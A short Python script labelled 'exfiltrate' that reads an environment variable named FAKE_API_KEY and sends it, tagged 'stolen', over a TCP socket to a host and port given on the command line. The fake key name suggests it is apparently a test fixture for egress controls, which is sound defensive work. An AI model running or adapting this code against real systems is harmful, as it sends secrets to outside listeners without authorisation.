# exfiltrate: sends what it knows to a listener (argv: token, host, port).
import os
import socket
import sys

host, port = sys.argv[2], int(sys.argv[3])
payload = ("stolen: " + os.environ.get("FAKE_API_KEY", "nothing")).encode()
try:
    with socket.create_connection((host, port), timeout=2) as s:
        s.sendall(payload)
except OSError as e:
    print(f"connect to {host}:{port} failed: errno {e.errno} ({e.strerror})", file=sys.stderr)
    sys.exit(1)
print("sent", len(payload), "bytes")
